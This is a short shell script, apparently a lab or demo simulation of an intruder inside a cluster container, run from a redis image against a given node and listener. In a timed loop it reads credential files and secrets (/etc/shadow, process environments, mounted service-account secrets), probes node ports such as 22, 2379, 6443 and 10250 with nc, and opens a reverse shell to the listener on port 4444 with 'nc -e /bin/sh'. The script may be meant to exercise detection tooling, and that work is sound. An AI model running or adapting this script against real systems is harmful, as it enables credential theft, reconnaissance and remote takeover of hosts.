#!/bin/sh
# What an intruder with a shell in one container does first, confined to this cluster: reads what may hold
# credentials, looks for open ports on its own node, and calls home with a shell. Runs in the demo's redis image.
#
#   attack.sh <address of this pod's node> <address of the listener> <seconds>
node=$1 home=$2 end=$(($(date +%s) + $3))
while [ "$(date +%s)" -lt "$end" ]; do
    cat /etc/shadow /etc/passwd /proc/self/environ /proc/1/environ /var/run/secrets/*/* >/dev/null 2>&1
    ls -la /root /data /tmp /proc/1/fd >/dev/null 2>&1
    for port in 22 80 443 2379 4149 6443 8080 10250 10255 10256; do
        nc -w 1 "$node" "$port" </dev/null >/dev/null 2>&1
    done
    nc -w 2 "$home" 4444 -e /bin/sh >/dev/null 2>&1
done
